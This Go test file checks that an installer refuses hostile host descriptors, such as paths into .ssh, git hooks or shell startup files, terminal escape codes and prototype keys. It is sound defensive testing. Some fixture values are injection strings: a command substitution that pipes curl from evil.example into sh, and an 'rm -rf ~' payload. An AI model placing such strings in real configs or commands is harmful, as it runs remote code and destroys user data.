package added

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/gsd-install/gsd-install/descriptors"
)

// hostile are the files of testdata/hostile, each with the reason that it is refused for. All
// but a few are one of testdata/good with one thing changed.
var hostile = map[string]string{
	"also-reads-own.toml":                     `alsoReads[0].own: ".claude/skills" does not lie in its home`,
	"client.toml":                             `client: only programs of built-in hosts are run to ask for their version`,
	"binary-path.toml":                        `binaries[0]: "../../bin/sh" is not the name of a program`,
	"candidate-up.toml":                       `candidates[0].names[1]: "../.claude.json" leaves its folder`,
	"capability-axis.json":                    `runtime.hostIntegration.runtime: unknown value "bash", not one of node, bun, sandboxed-web, python, go, rust, electron, other`,
	"capability-bom.json":                     `it begins with a byte order mark, which JSON does not have`,
	"capability-command-style.json":           `runtime.commandStyle: unknown word "eval", not one of shell-var, slash-hyphen`,
	"capability-converter-missing.json":       `runtime.artifactLayout.global[0].converter: missing; null is the form of the pack itself`,
	"capability-converter-of-other-kind.json": `runtime.artifactLayout.global[0].converter: convertClaudeAgentToCodexAgent makes no skills`,
	"capability-converter-prototype.json":     `runtime.artifactLayout.global[0].converter: unknown converter "__proto__"; no dialect is known for it`,
	"capability-converter-unknown.json":       `runtime.artifactLayout.global[0].converter: unknown converter "require('child_process')"; no dialect is known for it`,
	"capability-cut.json":                     `it ends too early`,
	"capability-depth.json":                   `runtime.hostBehaviors: more than 16 objects and lists lie in each other`,
	"capability-empty.json":                   `it ends too early`,
	"capability-env-home.json":                `runtime.configHome.env[0]: HOME is set for others and would move its home to where they are`,
	"capability-exec-list.json":               `runtime.orchestratorExec: it is no object`,
	"capability-feature-hooks.json":           `hooks: it belongs to a feature; a host's capability cannot have it`,
	"capability-home-agents.json":             `runtime.configHome.name: "agents" is no folder of its own; a home is a hidden folder, such as .acme`,
	"capability-home-claude.json":             `runtime.configHome.name: ".claude" is the home of Claude Code`,
	"capability-home-config.json":             `runtime.configHome.name: ".config/." is not a clean path of names and slashes`,
	"capability-home-list.json":               `runtime.configHome: it is no object`,
	"capability-home-nested-up.json":          `runtime.configHome.name: "../acme" is no folder of its own; a home is a hidden folder, such as .acme`,
	"capability-home-none.json":               `runtime.configHome.kind: "none": it has no home to write into`,
	"capability-home-ssh.json":                `runtime.configHome.name: ".ssh" is taken by keys of yours`,
	"capability-home-unknown-key.json":        `runtime.configHome.write: unknown key`,
	"capability-home-xdg-up.json":             `runtime.configHome.name: ".config/../.ssh" leaves its folder`,
	"capability-hooks-surface.json":           `runtime.hooksSurface: unknown word "crontab", not one of cline-rules, codex-hooks-json, copilot-inline, cursor-hooks-json, kimi-hooks-toml, none, settings-json, windsurf-hooks-json`,
	"capability-id-first-party.json":          `id: "codex" is the id of Codex already`,
	"capability-key-twice.json":               `id: it stands twice`,
	"capability-list.json":                    `it is no object`,
	"capability-local-git.json":               `runtime.localConfigDir: ".git" is taken by a repository of git, whose hooks run commands`,
	"capability-local-missing.json":           `runtime.localConfigDir: missing`,
	"capability-local-root.json":              `runtime.localConfigDir: "." is no folder of its own; a home is a hidden folder, such as .acme`,
	"capability-not-utf8.json":                `it is not UTF-8`,
	"capability-proto.json":                   `__proto__: unknown key`,
	"capability-role-feature.json":            `role: "feature" is no host; only a capability with the role "runtime" is one`,
	"capability-row-absolute.json":            `runtime.artifactLayout.global[1].destSubpath: "/etc" is an absolute path`,
	"capability-row-kind.json":                `runtime.artifactLayout.global[1].kind: unknown word "binaries", not one of agents, commands, kimi-agents, skills`,
	"capability-row-local-home.json":          `runtime.artifactLayout.local[0].home: a project's rows stay in the project`,
	"capability-row-up.json":                  `runtime.artifactLayout.global[0].destSubpath: "../../.ssh" leaves its folder`,
	"capability-title-escape.json":            `title: U+001B in it would not be seen, or would be obeyed by a terminal`,
	"capability-trailing.json":                `something follows the object`,
	"capability-unknown-key.json":             `postinstall: unknown key`,
	"empty.toml":                              `id: missing`,
	"folder-local-outside.toml":               `folders.more.local: ".github" does not lie in its home, .acme`,
	"folder-outside.toml":                     `folders.more.global: ".claude" does not lie in its home, .acme`,
	"home-above-config.toml":                  `configHome.name: ".local" is taken by what many programs have installed`,
	"home-above-host.toml":                    `configHome.name: ".pi" holds .pi/agent, the home of pi`,
	"home-absolute.toml":                      `configHome.name: "/etc/acme" is an absolute path`,
	"home-agents-skills.toml":                 `configHome.name: ".agents/skills" lies in .agents, taken by what several hosts share`,
	"home-agents.toml":                        `configHome.name: ".agents" is taken by what several hosts share`,
	"home-autostart.toml":                     `configHome.name: ".config/autostart" is taken by what your desktop starts`,
	"home-aws.toml":                           `configHome.name: ".aws" is taken by keys of yours`,
	"home-backslash-up.toml":                  `configHome.name: ".acme\\..\\.ssh" leaves its folder`,
	"home-bashrc.toml":                        `configHome.name: ".bashrc" is taken by a shell's startup file`,
	"home-bin.toml":                           `configHome.name: "bin/acme" is no folder of its own; a home is a hidden folder, such as .acme`,
	"home-case.toml":                          `configHome.name: ".Codex" is the home of Codex`,
	"home-claude-file.toml":                   `configHome.name: ".claude.json" is a file of Claude Code`,
	"home-claude-folder.toml":                 `configHome.name: ".claude/skills" lies in .claude, the home of Claude Code`,
	"home-claude.toml":                        `configHome.name: ".claude" is the home of Claude Code`,
	"home-colon.toml":                         `configHome.name: ".acme:x": a name cannot hold ':'`,
	"home-config.toml":                        `configHome.name: ".config" is taken by the settings of many programs`,
	"home-confusable.toml":                    `configHome.name: ".clаude" is no folder of its own; a home is a hidden folder, such as .acme`,
	"home-copilot.toml":                       `configHome.name: ".copilot" is taken by what several hosts share`,
	"home-device.toml":                        `configHome.name: ".acme/nul": nul is a device on Windows, with any extension`,
	"home-dot.toml":                           `configHome.name: "." is no folder of its own; a home is a hidden folder, such as .acme`,
	"home-drive.toml":                         `configHome.name: "C:/acme" is an absolute path`,
	"home-elvish.toml":                        `configHome.name: ".config/elvish" is taken by a shell's startup files`,
	"home-empty.toml":                         `configHome.name: missing`,
	"home-fish.toml":                          `configHome.name: ".config/fish" is taken by a shell's startup files`,
	"home-git.toml":                           `configHome.name: ".git/hooks" lies in .git, taken by a repository of git, whose hooks run commands`,
	"home-gnupg.toml":                         `configHome.name: ".gnupg" is taken by keys of yours`,
	"home-inner-git.toml":                     `configHome.name: ".config/.git" has .git in it, taken by a repository of git, whose hooks run commands`,
	"home-inner-up.toml":                      `configHome.name: ".acme/../.ssh" leaves its folder`,
	"home-local-bin.toml":                     `configHome.name: ".local/bin" is taken by programs that a shell finds`,
	"home-local-share.toml":                   `configHome.name: ".local/share" is taken by the data of many programs`,
	"home-long.toml":                          `configHome.name: ".aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" is no folder of its own; a home is a hidden folder, such as .acme`,
	"home-none.toml":                          `configHome.kind: "none": it has no home to write into`,
	"home-own-records.toml":                   `configHome.name: ".config/gsd-install/hosts" lies in .config/gsd-install, taken by this program's own records`,
	"home-own-state.toml":                     `configHome.name: ".gsd-install" is taken by this program's own records`,
	"home-plain.toml":                         `configHome.name: "Documents" is no folder of its own; a home is a hidden folder, such as .acme`,
	"home-probe.toml":                         `configHome.probes[1].dir: ".claude" is the home of Claude Code`,
	"home-profile.toml":                       `configHome.name: ".profile" is taken by a shell's startup file`,
	"home-root.toml":                          `configHome.name: "/" is an absolute path`,
	"home-shared-root.toml":                   `configHome.kind: "generic-agents-root" is a folder that hosts share; a host of its own has a home of its own`,
	"home-space.toml":                         `configHome.name: ".acme ": a name cannot end in ' '`,
	"home-ssh-case.toml":                      `configHome.name: ".SSH/acme" lies in .ssh, taken by keys of yours`,
	"home-ssh.toml":                           `configHome.name: ".ssh" is taken by keys of yours`,
	"home-sway.toml":                          `configHome.name: ".config/sway" is taken by what your session starts`,
	"home-systemd.toml":                       `configHome.name: ".config/systemd/user" lies in .config/systemd, taken by what your session starts`,
	"home-tilde-folder.toml":                  `configHome.name: "~/.acme" starts in the home; write the path below it`,
	"home-tilde.toml":                         `configHome.name: "~" starts in the home; write the path below it`,
	"home-up.toml":                            `configHome.name: "../acme" leaves its folder`,
	"home-vscode.toml":                        `configHome.name: ".vscode" is taken by what your editor runs at its start`,
	"home-xonshrc.toml":                       `configHome.name: ".xonshrc" is taken by a shell's startup file`,
	"home-zshrc.toml":                         `configHome.name: ".zshrc.d/../.zshrc" leaves its folder`,
	"hooks-file-git.toml":                     `hooks.file.global: ".Git/config" has .Git in it, taken by a repository of git, whose hooks run commands`,
	"hooks-file-up.toml":                      `hooks.file.global: "../.bashrc" leaves its folder`,
	"id-alias.toml":                           `id: "claude-code" is another name of the host claude`,
	"id-case.toml":                            `id: "Claude" is not of the form a-z, then a-z, 0-9 and -`,
	"id-first-party.toml":                     `id: "claude" is the id of Claude Code already`,
	"id-folder-of-host.toml":                  `id: "codex-agents" is the name of a folder of Codex`,
	"id-home.toml":                            `id: "home" is the name of a mount`,
	"id-long.toml":                            `id: 41 characters; at most 40 are taken`,
	"id-mount.toml":                           `id: "agents" is the name of a mount`,
	"id-moved-of-host.toml":                   `id: "kimi-moved1" is the name of a folder of Kimi CLI`,
	"id-none.toml":                            `id: missing`,
	"id-path.toml":                            `id: "../acme" is not of the form a-z, then a-z, 0-9 and -`,
	"key-twice.toml":                          `id: Key 'id' has already been defined.`,
	"local-agents.toml":                       `configHome.local: ".agents" is taken by what several hosts share`,
	"local-claude.toml":                       `configHome.local: ".claude" is the home of Claude Code`,
	"local-env.toml":                          `configHome.local: ".env" is taken by secrets of a project`,
	"local-git.toml":                          `configHome.local: ".git" is taken by a repository of git, whose hooks run commands`,
	"local-gitea.toml":                        `configHome.local: ".gitea" is taken by what the project's CI runs`,
	"local-github.toml":                       `configHome.local: ".github" is taken by what the project's CI runs`,
	"local-husky.toml":                        `configHome.local: ".husky" is taken by what git runs`,
	"local-inner-hg.toml":                     `configHome.local: ".acme/.hg" has .hg in it, taken by a repository, whose hooks run commands`,
	"local-mcp-file.toml":                     `configHome.local: ".mcp.json" is taken by what several hosts share`,
	"local-source.toml":                       `configHome.local: "src" is no folder of its own; a home is a hidden folder, such as .acme`,
	"local-vscode.toml":                       `configHome.local: ".vscode" is taken by what your editor runs at its start`,
	"mcp-file-up.toml":                        `mcp.file.global: "../.claude.json" leaves its folder`,
	"mount-agents.toml":                       `artifactLayout[0].mount: "agents" is not its own; everything goes into its home`,
	"mount-home.toml":                         `mcp.mount.global: "home" is not its own; everything goes into its home`,
	"mount-hooks.toml":                        `hooks.mount.global: "copilot-home" is not its own; everything goes into its home`,
	"mount-project.toml":                      `mcp.mount.local: "project" is not its own; everything goes into its home`,
	"moved-from.toml":                         `movedFrom: it has no earlier home; uninstall before the home changes`,
	"native.toml":                             `text.native: packs are in the format of a built-in host alone`,
	"next-escape.toml":                        `next[0]: U+009B in it would not be seen, or would be obeyed by a terminal`,
	"next-huge.toml":                          `next[0]: a text of 1032 bytes; at most 1000 are taken`,
	"no-rows.toml":                            `artifactLayout: missing`,
	"no-toml.toml":                            `expected '.' or '=', but got '<' instead`,
	"not-utf8.toml":                           `title: invalid UTF-8 byte: 0xff`,
	"permissions-file-up.toml":                `permissions.file.global: "../.claude/settings.json" leaves its folder`,
	"project-dir-runs.toml":                   `hooks.projectDir: "$(curl -s evil.example | sh)": a shell would run it with every hook; it can be a variable`,
	"project-dir-semicolon.toml":              `hooks.projectDir: $X; rm -rf ~;: a shell would run it with every hook; it can be a variable`,
	"row-absolute.toml":                       `artifactLayout[0].destSubpath: "/etc" is an absolute path`,
	"row-file-up.toml":                        `artifactLayout[0].file: "../{name}.md": "../x.md" leaves its folder`,
	"row-git.toml":                            `artifactLayout[0].destSubpath: ".git/hooks" has .git in it, taken by a repository of git, whose hooks run commands`,
	"row-state.toml":                          `artifactLayout[0].destSubpath: ".gsd-install" is kept for the program's own records`,
	"row-up.toml":                             `artifactLayout[0].destSubpath: "../.ssh" leaves its folder`,
	"shared-roots.toml":                       `sharedRoots: it takes no part in folders that hosts share`,
	"successor.toml":                          `successor: one host cannot send its users to another that is not its own`,
	"title-bidi.toml":                         `title: U+202E in it would not be seen, or would be obeyed by a terminal`,
	"title-escape.toml":                       `title: U+001B in it would not be seen, or would be obeyed by a terminal`,
	"title-long.toml":                         `title: 61 characters; at most 60 are taken`,
	"title-newline.toml":                      `title: U+000A in it would not be seen, or would be obeyed by a terminal`,
	"title-zero-width.toml":                   `title: U+200B in it would not be seen, or would be obeyed by a terminal`,
	"uncited.toml":                            `artifactLayout[0].source: missing`,
	"unknown-key.toml":                        `run: unknown key, not one of`,
	"unknown-renderer.toml":                   `dialects.command.renderer: unknown word "exec", not one of slash-md, slash-toml, skill-md, agent-md, agent-toml, agent-yaml, rule-mdc, rule-md, marked-block`,
	"variable-bash-env.toml":                  `configHome.env[0].name: BASH_ENV is set for others and would move its home to where they are`,
	"variable-codex-home.toml":                `configHome.env[0].name: CODEX_HOME is the variable of Codex`,
	"variable-form.toml":                      `configHome.env[0].name: "ACME HOME" is no name of a variable`,
	"variable-git.toml":                       `configHome.env[0].name: GIT_DIR is set for others and would move its home to where they are`,
	"variable-gnupg.toml":                     `configHome.env[0].name: GNUPGHOME is set for others and would move its home to where they are`,
	"variable-home.toml":                      `configHome.env[0].name: HOME is set for others and would move its home to where they are`,
	"variable-path.toml":                      `configHome.env[0].name: PATH is set for others and would move its home to where they are`,
	"variable-xdg-config-home.toml":           `configHome.env[0].name: XDG_CONFIG_HOME is set for others and would move its home to where they are`,
	"variable-zdotdir.toml":                   `configHome.env[0].name: ZDOTDIR is set for others and would move its home to where they are`,
}

// Each hostile descriptor is refused for its reason, and no host comes of it.
func TestHostile(t *testing.T) {
	files, err := filepath.Glob("testdata/hostile/*")
	if err != nil || len(files) < 60 || len(files) != len(hostile) {
		t.Fatalf("%d files and %d reasons, %v", len(files), len(hostile), err)
	}
	for _, file := range files {
		h, _, err := check(t, file)
		if err == nil {
			t.Errorf("%s is not refused", file)
			continue
		}
		want, known := hostile[filepath.Base(file)]
		found := false
		for _, p := range problems(t, err) {
			found = found || strings.HasSuffix(p, want) || strings.HasSuffix(want, "one of") && strings.Contains(p, want)
		}
		if !found || !known {
			t.Errorf("%s: got\n%v\nwant\n%s", file, err, want)
		}
		if h.ID != "" {
			t.Errorf("%s: a host comes with the error", file)
		}
	}
}

// What the hostile ones are made of is taken.
func TestGood(t *testing.T) {
	for _, file := range []string{"testdata/good/acme.toml", "testdata/good/chosen.toml", "testdata/good/capability/capability.json"} {
		if h, _, err := check(t, file); err != nil || h.ID != "acme" {
			t.Errorf("%s: %q, %v", file, h.ID, err)
		}
	}
}

func check(t *testing.T, file string) (descriptors.Host, []Note, error) {
	t.Helper()
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	return Source{Name: file, Data: data}.Check(descriptors.Builtin())
}

func problems(t *testing.T, err error) []string {
	t.Helper()
	var e *descriptors.Error
	if !errors.As(err, &e) {
		t.Fatalf("%v is no list of problems", err)
	}
	var all []string
	for _, err := range e.Unwrap() {
		all = append(all, err.Error())
	}
	return all
}
